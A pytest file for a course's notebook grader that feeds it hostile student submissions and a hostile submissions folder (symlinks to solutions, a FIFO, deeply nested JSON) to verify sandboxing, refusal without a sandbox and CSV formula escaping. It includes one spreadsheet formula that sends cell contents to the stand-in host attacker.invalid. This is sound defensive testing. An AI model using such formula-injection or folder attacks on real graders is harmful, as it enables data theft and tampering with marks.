"""python -m ikteach.course.grade on the solutions, the untouched templates, the wrong and the hostile
submissions (tests/submissions/, written by make_hostile.py), every spelling of ikteach's own
answer (tests/reference_spellings.py: the reference rule) and on a submissions folder that
is itself hostile (links, a FIFO, a directory named like a notebook, deep JSON, odd names).

One grading run (two notebooks at a time) serves every test here. Where this machine has a
sandbox (bubblewrap) the run is the normal one. Where it has none, the grader must refuse
(checked first: exit status 2, what to install, the override flag, no CSV); the run is then
made with --no-sandbox, without the submissions that only a sandbox stops (they would really
write outside, or read the checker), and every test of isolation checks the refusal instead.
"""
import ast
import collections
import csv
import json
import os
import platform
import re
import shutil
import subprocess
import sys
import time
import unicodedata
from pathlib import Path

import numpy as np
import pytest

import reference_spellings as spellings
from ikteach.course import check, grade
from ikteach.course.grading.time_limit import CELLS_BUSY
from sandboxes import SANDBOXED

ROOT = Path(__file__).resolve().parents[1]
WRONG = ROOT / "tests" / "submissions"
UNTOUCHED = ["01_jacobian.ipynb", "06_singularity_study.ipynb", "07_priority_step.ipynb"]
PLANTED = [ROOT / "ikteach" / "course" / "planted_by_student.py", ROOT / "planted_by_student.py"]
ESCAPES = [Path("/tmp/ikteach-escaped.txt"), Path("/var/tmp/ikteach-escaped.txt"),
           ROOT / "ESCAPED.txt"] + PLANTED
# only a sandbox stops these: without one they are left out (and the refusal is checked)
NEEDS_SANDBOX = {"write_outside", "steal_solution", "fork_storm", "hostile", "remount_plant",
                 "ref_checker_reimport", "fill_tmpfs", "ipc_relay"}
TIMEOUT, GRADE_TIMEOUT, TMPFS_MB = 10, 60, 64
ODD_STUDENT = b"student-\xff-name"          # a folder name that is not UTF-8
ODD_FILE = b"02_jt_step-\xfe.ipynb"          # a notebook name that is not UTF-8
LONG_NAME = "long-" + "x" * 250             # 255 bytes: the longest a folder name can be
FORMULA = ('=IMAGE(CONCATENATE("https:",CHAR(47),CHAR(47),"attacker.invalid",CHAR(47),"?",'
           'B3,C3,D3))')
FORMULA_FILE = "=1+1+cmd.ipynb"
MULLER = [unicodedata.normalize(form, "Müller") for form in ("NFC", "NFD")]


STUDENTS = sorted(p.name for p in WRONG.iterdir() if p.is_dir() and p.name != "storm_class"
                  and (SANDBOXED or p.name not in NEEDS_SANDBOX))
Graded = collections.namedtuple("Graded", "rows feedback before log stderr refusal")


def hostile_folder(subs):
    """Students whose folder, not their code, attacks the grader (issue 24, class 2)."""
    solutions = ROOT / "instructor" / "solutions"
    (subs / "symlink_file").mkdir()
    (subs / "symlink_file" / "04_dls_step.ipynb").symlink_to(solutions / "04_dls_step.ipynb")
    (subs / "symlink_folder").symlink_to(solutions, target_is_directory=True)
    (subs / "device").mkdir()
    (subs / "device" / "05_stop_rule.ipynb").symlink_to("/dev/zero")
    (subs / "dir_named" / "01_jacobian.ipynb").mkdir(parents=True)
    shutil.copy(solutions / "01_jacobian.ipynb", subs / "dir_named" / "01_jacobian.ipynb" / "x.ipynb")
    (subs / "fifo").mkdir()
    os.mkfifo(subs / "fifo" / "02_jt_step.ipynb")
    (subs / "deep_json").mkdir()
    (subs / "deep_json" / "03_pinv_step.ipynb").write_text("[" * 100_000 + "]" * 100_000)
    (subs / "deep_dict").mkdir()
    nested = {}
    for _ in range(100):
        nested = {"x": nested}
    (subs / "deep_dict" / "03_pinv_step.ipynb").write_text(json.dumps({"cells": [], "metadata": nested}))
    odd = os.path.join(os.fsencode(subs), ODD_STUDENT)
    os.mkdir(odd)
    shutil.copy(solutions / "02_jt_step.ipynb", os.path.join(odd, b"02_jt_step.ipynb"))
    (subs / "odd_file_name").mkdir()
    shutil.copy(solutions / "02_jt_step.ipynb", os.path.join(os.fsencode(subs / "odd_file_name"), ODD_FILE))
    (subs / "surrogate").mkdir()  # lone surrogates in the written answer and in a comment
    book = json.loads((solutions / "06_singularity_study.ipynb").read_text())
    for cell in book["cells"]:
        cell["source"] = ("# \ud800 comment\n" if cell["cell_type"] == "code" else "\udfff ") + \
            "".join(cell["source"])
    (subs / "surrogate" / "06_singularity_study.ipynb").write_text(json.dumps(book))
    for name in [LONG_NAME, FORMULA] + MULLER:  # issue 35: names the grader's files must hold
        (subs / name).mkdir()
        shutil.copy(solutions / "02_jt_step.ipynb", subs / name / "02_jt_step.ipynb")
    (subs / "formula_file").mkdir()
    (subs / "formula_file" / FORMULA_FILE).write_text("not a notebook")


# The hidden cases of one fixed draw: the feedback lines below name a failing case, and which case
# fails first depends on the draw (e.g. `exception`'s wrong product raises only on non-square J:
# 2 of 40 draws make a square J its smallest failing case). tests/test_hidden_cases.py varies it.
HIDDEN_SEED = 1


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    base = tmp_path_factory.mktemp("grading")
    subs = base / "submissions"
    shutil.copytree(ROOT / "instructor" / "solutions", subs / "solutions")
    (subs / "untouched").mkdir()
    for name in UNTOUCHED:  # the check's "not implemented" path is the same for every exercise
        shutil.copy(ROOT / "notebooks" / "exercises" / name, subs / "untouched" / name)
    for student in STUDENTS:
        shutil.copytree(WRONG / student, subs / student)
    (subs / "untouched" / "notes.txt").write_text("not a notebook: ignored")
    spellings.write_class(subs)
    hostile_folder(subs)
    before = {p: p.read_bytes() for p in subs.rglob("*") if p.is_file() and not p.is_symlink()
              and not p.is_fifo()}
    for path in ESCAPES:
        path.unlink(missing_ok=True)
    out = base / "out" / "grades.csv"
    command = [sys.executable, "-m", "ikteach.course.grade", str(subs), "--out", str(out),
               "--timeout", str(TIMEOUT), "--grade-timeout", str(GRADE_TIMEOUT), "--jobs", "2",
               "--tmpfs-mb", str(TMPFS_MB), "--seed", str(HIDDEN_SEED)]
    # another OpenBLAS kernel in the grader than the default one (any x86-64 runs Prescott's):
    # the student's process must compute with the same, or no_cutoff's diagnosis changes
    env = dict(os.environ)
    if platform.machine() in ("x86_64", "AMD64"):
        env.setdefault("OPENBLAS_CORETYPE", "Prescott")
    refusal = None
    if not SANDBOXED:  # first as a lecturer would: the grader must refuse
        refusal = subprocess.run(command, capture_output=True, text=True, timeout=300, cwd=base,
                                 env=env)
        refusal = (refusal.returncode, refusal.stderr, out.exists())
        command.append("--no-sandbox")
    run = subprocess.run(command, capture_output=True, text=True, timeout=1500, cwd=base, env=env)
    assert run.returncode == 0, run.stderr[-3000:]
    rows = {r["student"]: r for r in csv.DictReader(out.open(encoding="utf-8"))}
    pages = [p.read_text(encoding="utf-8") for p in (base / "out" / "feedback").glob("*.txt")]
    feedback = {page.split("\n", 1)[0].removeprefix("Feedback for "): page for page in pages}
    return Graded(rows, feedback, before, run.stdout, run.stderr, refusal)


def scores(row):
    return [float(row[f"ex{n}"]) for n in range(1, 8)], float(row["total"])


def refused(graded):
    """Without a sandbox: the plain run was refused as it should be (True). With one: False."""
    if SANDBOXED:
        return False
    status, stderr, wrote_csv = graded.refusal
    assert status == 2 and not wrote_csv, stderr
    assert "no sandbox for the students' code" in stderr and "bwrap" in stderr
    assert "apt-get install bubblewrap" in stderr and "--no-sandbox" in stderr
    return True


def test_one_row_and_one_feedback_file_per_student(graded):
    students = {"solutions", "untouched", "symlink_file", "symlink_folder", "device", "dir_named",
                "fifo", "deep_json", "deep_dict", "odd_file_name", "surrogate",
                "student-\\xff-name", LONG_NAME, "'" + FORMULA, "M\\xfcller", "Mu\\u0308ller",
                "formula_file"} | set(STUDENTS) | {s[0] for s in spellings.SPELLINGS}
    assert set(graded.rows) == students  # the CSV's cell starts with ': no formula
    assert set(graded.feedback) == students - {"'" + FORMULA} | {FORMULA}


def test_solutions_get_full_marks(graded):
    rows, feedback = graded.rows, graded.feedback
    assert scores(rows["solutions"]) == ([10.0] * 7, 70.0)
    assert feedback["solutions"].count("passed, 10/10") == 7
    # not reported as ikteach's own answer (the reference rule's `copied`)
    assert rows["solutions"]["copied"] == "" and "for the instructor" not in feedback["solutions"]
    # exercise 6's written answer is copied for the instructor, not marked
    assert "your written answer (not marked by the checker" in feedback["solutions"]
    assert "| Stretched towards a target it cannot reach" in feedback["solutions"]


def test_untouched_templates_get_zero(graded):
    rows, feedback = graded.rows, graded.feedback
    assert scores(rows["untouched"]) == ([0.0] * 7, 0.0)
    assert feedback["untouched"].count("not yet implemented") == len(UNTOUCHED)
    assert "your written answer" not in feedback["untouched"]  # the placeholder is skipped


@pytest.mark.parametrize("student, exercise, score, line", [
    ("sign_error", 1, 6, "wrong sign: your Jacobian is -1 x the expected one"),
    ("fixed_alpha", 2, 7, "alpha looks fixed: it is 0.1 in every case"),
    ("no_cutoff", 3, 7, "no cut-off: 1/sigma_i must be dropped"),
    ("lambda_not_squared", 4, 2, "missing square on lambda"),
    ("infinite_loop", 1, 0, "did not return within 5 s"),
    ("exception", 2, 0, "`jt_step` raised ValueError"),
])
def test_wrong_submissions_get_partial_marks_and_the_right_feedback(graded, student, exercise,
                                                                     score, line):
    marks, total = scores(graded.rows[student])
    assert marks[exercise - 1] == score and total == score
    assert f"Exercise {exercise} (" in graded.feedback[student]
    assert line in graded.feedback[student]


# hostile submissions: (student, exercise, marks, a line of its feedback)
HOSTILE = [
    # replaces ik.check.grade, ik.check.pinv_step and sys.modules["ikteach.course.check"]: template
    ("forge_check", 3, 0, "not yet implemented"),
    # prints fake grade lines, replaces print, sys.stdout and the display hook: template
    ("forge_output", 2, 0, "not yet implemented"),
    # patches the checks from inside its own function: the checker is not there to import
    ("patch_in_function", 2, 0, "raised ModuleNotFoundError: No module named "
                                "'ikteach.course.check."),
    # writes outside its folder (the files are checked below); its function is right
    ("write_outside", 1, 10, "passed, 10/10"),
    ("fork_storm", 2, 10, "passed, 10/10"),
    ("memory_hog", 4, 10, "raised MemoryError"),
    # stopped by the cells' time limit: after 10.0 s of CPU time, or a little more (or, held up on
    # a busy machine, by the wall-clock one: tests/test_cells.py tells the two apart)
    ("sigint_loop", 5, 10, "did not finish within the notebook's time limit: stopped after "),
    ("huge_output", 1, 10, "passed, 10/10"),
    ("hostile", 3, 10, "did not finish within the notebook's time limit: stopped after "),
    ("not_json", 1, 0, "it is not JSON"),
    ("no_functions", 3, 0, "`pinv_step` not found in the notebook"),
    # as root too: detach the checker's cover, remount / and the package, new user namespace,
    # plant modules where the grader imports from (checked below); its function is right
    ("remount_plant", 2, 10, "passed, 10/10"),
    # issue 35: fills /tmp, /dev/shm and HOME (checked below); its function is right
    ("fill_tmpfs", 2, 10, "passed, 10/10"),
    ("huge_array", 4, 0, "`dls_step` raised MemoryError"),
    # answers left by exercise 1's job in a POSIX queue, SysV memory and a keyring, for
    # exercise 2's (another job, another server)
    ("ipc_relay", 2, 0, "`jt_step` raised RuntimeError: no relay: nothing the notebook's run "
                        "left was found"),
]


@pytest.mark.parametrize("student, exercise, score, line", HOSTILE)
def test_a_hostile_submission_loses_only_its_own_marks(graded, student, exercise, score, line):
    if student in NEEDS_SANDBOX and refused(graded):
        return
    marks, total = scores(graded.rows[student])
    assert marks[exercise - 1] == score and total == score, graded.feedback[student]
    assert line in graded.feedback[student], graded.feedback[student]


# issue 24, class 1: ikteach's own answer under the exercise's name scores nothing
OWN_CODE = [
    ("ref_plain", 2, "`jt_step` raised ReferenceBlocked: ikteach's jt_step is the reference"),
    ("ref_import", 2, "`jt_step` is not a function written in your notebook: it is "
                      "ikteach.core.jt"),
    ("ref_decorator", 3, "`pinv_step` is not a function written in your notebook"),
    ("ref_default", 4, "raised ReferenceBlocked: ikteach's dls_step is the reference"),
    ("ref_class", 1, "raised ReferenceBlocked: ikteach's jacobian is the reference"),
    ("ref_annotation", 7, "`priority_step` is not a function written in your notebook"),
    ("ref_checker", 6, "`study` raised AttributeError"),
    ("ref_checker_reimport", 6, "`study` raised ModuleNotFoundError"),
]


@pytest.mark.parametrize("student, exercise, line", OWN_CODE)
def test_marks_only_for_the_students_own_code(graded, student, exercise, line):
    if student in NEEDS_SANDBOX and refused(graded):
        return
    marks, total = scores(graded.rows[student])
    assert marks[exercise - 1] == 0 and total == 0, graded.feedback[student]
    assert line in graded.feedback[student], graded.feedback[student]


@pytest.mark.parametrize("student, number, source, marks, line, copied", spellings.SPELLINGS)
def test_each_spelling_of_ikteachs_answer(graded, student, number, source, marks, line, copied):
    row, feedback = graded.rows[student], graded.feedback[student]
    assert float(row[f"ex{number}"]) == marks and float(row["total"]) == marks, feedback
    assert line in feedback, feedback
    if copied:
        assert row["copied"].startswith(f"ex{number}: `") and line in row["copied"], row
        assert "for the instructor: " in feedback
        assert "the marks stand until the instructor decides" in feedback
    else:
        assert row["copied"] == "", row


@pytest.mark.parametrize("student", spellings.AGREE)
def test_instant_check_agrees(graded, student):
    """The check cell gives what the grader gave, naming ikteach's function (issues 40, 48)."""
    number, source, marks = next((n, src, m) for name, n, src, m, *_ in spellings.SPELLINGS
                                 if name == student)
    namespace = {"np": np, "ik": __import__("ikteach")}
    exec(compile(source, "<cell 3>", "exec"), namespace)
    module = check.EXERCISES[number]
    verdict = getattr(check, f"{module.CHECK_NAME}_verdict")(
        *(namespace[n] for n in module.FUNCTIONS))
    assert verdict.score == float(graded.rows[student][f"ex{number}"]) == marks, verdict.message
    assert "calls ikteach's own answer to this exercise" in verdict.message


# issue 24, class 2: (student, the reason in the CSV's notes and the feedback)
FOLDER = [
    ("symlink_file", "04_dls_step.ipynb: not read: it is a symbolic link"),
    ("symlink_folder", "the student's folder is a symbolic link: not read"),
    ("device", "05_stop_rule.ipynb: not read: it is a symbolic link"),
    ("dir_named", "01_jacobian.ipynb: not read: it is a directory"),
    ("fifo", "02_jt_step.ipynb: not read: it is a FIFO"),
    ("deep_json", "03_pinv_step.ipynb: could not read the notebook: its JSON is nested too deep"),
    ("deep_dict", "03_pinv_step.ipynb: could not read the notebook: its JSON is nested over 64"),
]


@pytest.mark.parametrize("student, reason", FOLDER)
def test_a_bad_file_costs_only_its_students_marks_with_a_reason(graded, student, reason):
    assert scores(graded.rows[student]) == ([0.0] * 7, 0.0)
    assert reason in graded.rows[student]["notes"] and reason.split(": ", 1)[1] in \
        graded.feedback[student], graded.rows[student]


def test_a_job_s_files_stay_within_its_tmpfs(graded):
    """16 MiB files into /tmp, /dev/shm and HOME until the write fails: at most --tmpfs-mb in
    each (they are RAM: unbounded, they ended the whole class's grading)."""
    if refused(graded):
        return
    note = re.search(r"MiB written: (\{.*\})", graded.feedback["fill_tmpfs"])
    written = ast.literal_eval(note.group(1))  # {folder: MiB}, as the note quotes it
    assert set(written) >= {"/tmp", "/dev/shm"} and len(written) == 3, written
    assert all(0 < mib <= TMPFS_MB for mib in written.values()), written


def test_magics_on_each_solution_still_get_full_marks(graded):
    """%%time or `%matplotlib inline` opening each answer's cell, and a helper the answers call
    from a cell opening with `%matplotlib inline` and a common line magic (issue 50): they run
    as in a kernel, shell lines are skipped with a note, and nothing after them is lost."""
    assert scores(graded.rows["cell_magic"]) == ([10.0] * 7, 70.0), graded.feedback["cell_magic"]
    assert "`%pip install --quiet ikteach` was skipped" in graded.feedback["cell_magic"]
    assert "raised" not in graded.feedback["cell_magic"]


def test_any_name_gets_one_row_that_no_spreadsheet_runs(graded):
    """A 255-byte folder name, formulas as a folder and a notebook name, and one name in two
    Unicode normalisations: each student a row of its own, no cell starting a formula."""
    rows = graded.rows
    for student in [LONG_NAME, "'" + FORMULA, "M\\xfcller", "Mu\\u0308ller"]:
        assert scores(rows[student])[1] == 10.0, student
    assert rows["formula_file"]["notes"].startswith("'" + FORMULA_FILE + ": could not read")
    for row in rows.values():
        assert not any(str(v).startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())


def test_odd_names_and_lone_surrogates_are_graded(graded):
    rows = graded.rows
    assert scores(rows["student-\\xff-name"])[1] == 10.0
    assert scores(rows["odd_file_name"])[1] == 10.0
    assert "(02_jt_step-\\xfe.ipynb): 10/10" in graded.feedback["odd_file_name"]
    assert scores(rows["surrogate"])[0][5] == 10.0
    assert "| ? ### BEGIN SOLUTION" in graded.feedback["surrogate"]  # the surrogate: "?"


def test_time_limits_hold_from_outside(graded):
    """Signals ignored, then a sleep in a cell: the job is killed from outside once it is held
    up CELLS_BUSY times --timeout (and the grace), whatever the notebook does with its signals;
    nothing is graded."""
    marks, total = scores(graded.rows["sigalrm_sleep"])
    assert total == 0
    text = graded.feedback["sigalrm_sleep"]
    assert f"did not finish within the notebook's time limit ({TIMEOUT} s of CPU time)" in text
    assert "ignored the alarm: it was killed" in text, text
    took = re.search(r"sigalrm_sleep/02_jt_step.ipynb: .* \((\d+) s\)", graded.log)
    took = int(took.group(1))
    assert took <= CELLS_BUSY * TIMEOUT + grade.GRACE + GRADE_TIMEOUT + 20, graded.log


def test_nothing_escapes(graded):
    """No file written outside the working folder, nothing planted where the grader imports
    from, submissions untouched, no process left."""
    if refused(graded):
        return
    for path in ESCAPES:
        assert not path.exists(), path
    for path, content in graded.before.items():
        assert path.read_bytes() == content
    time.sleep(1)
    left = subprocess.run(["pgrep", "-f", "sleep 77.125"], capture_output=True, text=True)
    assert left.stdout.strip() == "", "the fork storm's children outlived the grading"


def test_the_solutions_and_other_students_are_out_of_reach(graded):
    """The stealing submission copies a solution when it can read one: in the sandbox it
    cannot (0 marks)."""
    if refused(graded):
        return
    assert scores(graded.rows["steal_solution"])[1] == 0
    assert "`dls_step` raised FileNotFoundError" in graded.feedback["steal_solution"]


def test_the_log_and_the_csv_say_what_the_sandbox_enforces(graded):
    log = graded.log
    assert "sandbox: NOT enforced:" in log and "RLIMIT_CPU" in log and "RLIMIT_AS" in log
    assert "self-check: a known-good answer got 10/10" in log
    backends = {row["sandbox"] for row in graded.rows.values()}
    if SANDBOXED:
        assert "sandbox: bubblewrap; enforced:" in log and backends == {"bubblewrap"}
        assert "with no capabilities, in its own user namespace, and as an unprivileged uid outside it" in log
        assert "no network (own network namespace" in log and "WARNING" not in graded.stderr
    else:
        assert backends == {"none (--no-sandbox)"} and "ISOLATION: NONE" in log
        assert "WARNING: --no-sandbox" in graded.stderr


def test_exercise_number_from_metadata_or_name():
    assert grade.exercise_number("x/03_anything.ipynb", {"metadata": {}}) == 3
    assert grade.exercise_number("x/Copy of 03_anything.ipynb", {"metadata": {}}) == 3
    assert grade.exercise_number("x/renamed.ipynb", {"metadata": {"ikteach": {"exercise": 5}}}) == 5
    assert grade.exercise_number("x/renamed.ipynb", {"metadata": {}}) is None


def test_missing_submissions_dir_is_a_clear_error(tmp_path):
    with pytest.raises(ValueError, match="SUBMISSIONS_DIR"):
        grade.grade_all(tmp_path / "nope", tmp_path / "g.csv")


def one_student(tmp_path):
    subs = tmp_path / "subs"
    (subs / "alice").mkdir(parents=True)
    shutil.copy(ROOT / "instructor" / "solutions" / "02_jt_step.ipynb", subs / "alice")
    return subs, tmp_path / "out" / "grades.csv"


@pytest.mark.without_bwrap
def test_without_a_sandbox_the_grader_refuses_and_grades_only_when_told(tmp_path, capsys):
    """bubblewrap not used (--no-bwrap; in .ci/run's second pass not on PATH either): exit
    status 2, what to install, the override, no CSV. With --no-sandbox the class is graded
    without isolation, the log and the CSV say so, and the marks are the sandbox's (ikteach's
    own answer a stub in the copy PYTHONPATH names)."""
    subs, out = tmp_path / "subs", tmp_path / "out" / "grades.csv"
    for student, folder in (("solutions", ROOT / "instructor" / "solutions"),
                            ("fixed_alpha", WRONG / "fixed_alpha"),
                            ("ref_plain", WRONG / "ref_plain")):
        (subs / student).mkdir(parents=True)
        shutil.copy(folder / "02_jt_step.ipynb", subs / student)
    argv = [str(subs), "--out", str(out), "--no-bwrap", "--seed", str(HIDDEN_SEED)]
    assert grade.main(argv) == 2
    err = capsys.readouterr().err
    assert "no sandbox for the students' code" in err and "apt-get install bubblewrap" in err
    assert "--no-sandbox" in err and not out.exists()
    assert grade.main(argv + ["--no-sandbox"]) == 0
    printed = capsys.readouterr()
    assert "WARNING: --no-sandbox" in printed.err and "ISOLATION: NONE" in printed.out
    rows = {r["student"]: r for r in csv.DictReader(out.open(encoding="utf-8"))}
    assert {s: float(r["total"]) for s, r in rows.items()} == {
        "solutions": 10.0, "fixed_alpha": 7.0, "ref_plain": 0.0}, printed.out
    assert {r["sandbox"] for r in rows.values()} == {"none (--no-sandbox)"}
    feedback = (out.parent / "feedback" / "ref_plain.txt").read_text(encoding="utf-8")
    assert "raised ReferenceBlocked: ikteach's jt_step is the reference" in feedback, feedback


@pytest.mark.parametrize("breakage", ["reference not blocked", "cells fail"])
def test_a_failing_self_check_stops_before_grading_anyone(tmp_path, monkeypatch, capsys,
                                                          breakage):
    """The grader cannot grade here: exit status 3, why, and no CSV of wrong zeros."""
    from ikteach.course.check import ex02_jt_step
    if breakage == "reference not blocked":
        monkeypatch.setattr(ex02_jt_step, "REFERENCES", ())
        why = "a wrapper of ik.jt_step (exercise 2) got 10/10 (expected 0/10"
    else:  # the cells report an error, as when the sandbox cannot run them
        run = grade._run
        monkeypatch.setattr(grade, "_run", lambda *args, **kwargs: (
            lambda verdict, notes, copied, stopped: (
                verdict, notes + ["cell 1 raised ImportError"], copied, stopped))(
                    *run(*args, **kwargs)))
        why = "a correct jt_step (exercise 2) got 10/10 (expected 10/10, without notes)"
    subs, out = one_student(tmp_path)
    flags = [] if SANDBOXED else ["--no-sandbox"]
    assert grade.main([str(subs), "--out", str(out), "--grade-timeout", "60"] + flags) == 3
    err = capsys.readouterr().err
    assert "grade: stopped: the grader's self-check failed" in err and why in err, err
    assert not out.exists()


@pytest.mark.without_bwrap
def test_packages_the_sandbox_does_not_show_stop_the_grader(tmp_path, monkeypatch, capsys):
    """The grader's packages hidden in the sandbox (as a venv it cannot see): exit status 2
    before anyone is graded. Without a sandbox: the refusal, also exit status 2."""
    import numpy
    monkeypatch.setattr(grade, "INSTRUCTOR", Path(numpy.__file__).resolve().parents[1])
    subs, out = one_student(tmp_path)
    assert grade.main([str(subs), "--out", str(out)]) == 2
    err = capsys.readouterr().err
    if SANDBOXED:
        assert "packages do not work in the sandbox: ModuleNotFoundError" in err, err
    else:
        assert "no sandbox for the students' code" in err, err
    assert not out.exists()
